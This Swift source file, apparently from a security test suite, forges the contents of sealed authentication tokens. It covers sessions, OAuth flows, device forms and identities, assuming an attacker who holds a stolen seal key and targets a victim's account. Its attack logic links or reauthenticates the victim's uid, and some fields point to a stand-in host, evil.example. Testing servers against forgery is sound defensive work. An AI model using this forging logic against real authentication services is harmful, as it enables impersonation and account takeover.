internal import Jansson
internal import OpenSSL

/// The contents of sealed values, as an attacker who knows the source code and the seal key can write them.
struct ForgedSeal: Sendable {
    /// The purpose in the value.
    let kind: String
    /// The party for which it is sealed.
    let holder: String
    let content: JSON
}

/// Creates contents for one victim, who needs no account: the attacker knows only a subject at a provider.
struct SealForger: Sendable {
    let clientID: String
    let provider: String
    /// The victim's subject at the provider.
    let subject: String
    /// The uids of the attacker and the victim; uids are not secret.
    let attackerUID: String
    let victimUID: String
    let redirectURI: String
    /// The current time in seconds since 1970.
    let now: Int64

    /// A random id; each single-use sealed value contains one.
    let id: String
    /// The `state` of forged flows, from which the cookie's name is derived.
    let state: String

    /// Every kind of value that any draft of the API sealed, with all purposes that it could have.
    static let kinds: [(letter: String, kind: String)] = [
        ("a", "nonce"), ("b", "session"), ("c", "flow"), ("d", "pushed_request"), ("e", "browser"),
        ("f", "device_form"), ("g", "pending_credential"), ("h", "identity"), ("i", "signin_page"),
    ]

    /// Returns the contents of one of ``kinds``, for all purposes.
    func forgeries(of kind: String, with key: StolenSealKey) throws -> [ForgedSeal] {
        switch kind {
        case "nonce": [forged(kind, ["provider": .string(provider)])]
        case "session": sessions
        case "flow": flows
        case "pushed_request":
            intents.map { forged(kind, ["request": .object(request.merging(member("intent", $0)) { $1 })]) }
        case "signin_page": signInPages
        case "browser": [ForgedSeal(kind: kind, holder: "device", content: ["id": .string(id)])]
        case "device_form": deviceForms
        case "pending_credential": try pendingCredentials(key)
        default: identityHolders.map { ForgedSeal(kind: kind, holder: $0, content: identity) }
        }
    }

    /// A digest of the handle in base64url (RFC 4648), by which the server finds a flow's cookie.
    var cookieName: String {
        "flow-" + String(Base64.urlEncode(SHA256.hash(Array("token-exchange flow\0\(state)".utf8))).prefix(22))
    }

    /// The victim's identity, as the first draft of the API sealed it.
    private var identity: JSON {
        [
            "provider": .string(provider), "subject": .string(subject), "audience_proof": "id_token_aud",
            "auth_time": .integer(now), "profile": ["name": "Victim"],
        ]
    }

    private var intents: [JSON?] {
        [nil]
            + [("link", attackerUID), ("link", victimUID), ("reauthenticate", victimUID)].map { purpose, uid in
                ["purpose": .string(purpose), "uid": .string(uid)]
            }
    }

    /// Bindings of OAuth 2.0 and of OAuth 1.0a.
    private var bindings: [[String: JSON]] {
        [
            ["state": .string(state), "nonce": "a-nonce-of-mine"],
            ["oauth_token": .string(state), "oauth_token_secret": "a-secret-of-mine"],
        ]
    }

    private var sessions: [ForgedSeal] {
        bindings.flatMap { binding in
            intents.map { intent in
                forged(
                    "session",
                    [
                        "provider": .string(provider), "redirect_uri": .string(redirectURI), "identity": identity,
                    ].merging(binding) { $1 }.merging(member("intent", intent)) { $1 })
            }
        }
    }

    private var request: [String: JSON] {
        [
            "client_id": .string(clientID), "redirect_uri": .string(redirectURI),
            "code_challenge": .string(AttackContext.challenge(AttackContext.plainVerifier)), "scope": [],
            "parameters": [:],
            "state": "a-state-of-mine", "provider": .string(provider),
        ]
    }

    private var flows: [ForgedSeal] {
        let purposes: [[String: JSON]] =
            intents.map { ["request": .object(request.merging(member("intent", $0)) { $1 })] }
            + [["user_code": "BCDFGHJK", "browser": .string(id)]]
        return purposes.flatMap { purpose in
            bindings.map { binding in
                let leg: [String: JSON] = [
                    "provider": .string(provider), "binding": .object(binding), "identity": identity,
                ]
                return forged("flow", purpose.merging(leg) { $1 }, for: cookieName)
            }
        }
    }

    /// Pages before the provider, for flows that were not started.
    private var signInPages: [ForgedSeal] {
        [("link", attackerUID), ("link", victimUID), ("reauthenticate", victimUID)].map { purpose, uid in
            forged(
                "signin_page",
                [
                    "client_id": .string(clientID), "provider": .string(provider),
                    "redirect_uri": .string(redirectURI), "intent": .string(purpose),
                    "account": ["guest": false, "uid_end": .string(String(uid.suffix(6))), "person": "Victim"],
                    "query": "client_id=evil", "refusal": "error=access_denied",
                    "authorization_url": "https://evil.example/", "refusal_url": "https://evil.example/",
                ])
        }
    }

    private var deviceForms: [ForgedSeal] {
        let steps: [[String: JSON]] = [
            ["step": "enter_code"], ["step": "confirm", "user_code": "BCDFGHJK"],
            [
                "step": "approve", "user_code": "BCDFGHJK",
                "payload": .string(Base64.urlEncode(SHA256.hash(identity.serialized()))),
                "provider": "Yahoo", "person": "Victim",
            ],
        ]
        return steps.map { forged("device_form", $0, for: id) }
    }

    /// Pending credentials of the first draft: an identity sealed for its own record, inside a seal for the client.
    private func pendingCredentials(_ key: StolenSealKey) throws -> [ForgedSeal] {
        let sealed = try key.seal(identity, as: "identity", for: identityHolders[0])
        let origins: [[String: JSON]] = [
            ["provoked_by": .string(attackerUID)],
            ["meeting": [.string(attackerUID), .string(victimUID)]],
        ]
        return origins.map { forged("pending_credential", $0.merging(["identity": .string(sealed)]) { $1 }) }
    }

    /// The parties for which the server sealed identities: a pending credential, a handoff, a device, a client.
    private var identityHolders: [String] {
        ["pending_credential", "handoff", "device_code"].map { kind in
            clientID + "\0" + Base64.urlEncode(SHA256.hash(Self.measured(["token-exchange spent \(kind)", id])))
        } + [clientID]
    }

    /// Returns the parts, each preceded by its length in eight octets.
    private static func measured(_ parts: [String]) -> [UInt8] {
        parts.flatMap { part in
            (0..<8).map { UInt8(truncatingIfNeeded: part.utf8.count >> (56 - 8 * $0)) } + Array(part.utf8)
        }
    }

    private func forged(_ kind: String, _ members: [String: JSON], for holder: String? = nil) -> ForgedSeal {
        let common: [String: JSON] = [
            "id": .string(id), "iat": .integer(now), "exp": .integer(now + 600),
        ]
        return ForgedSeal(
            kind: kind, holder: holder ?? clientID, content: .object(common.merging(members) { $1 }))
    }

    private func member(_ name: String, _ value: JSON?) -> [String: JSON] { value.map { [name: $0] } ?? [:] }
}
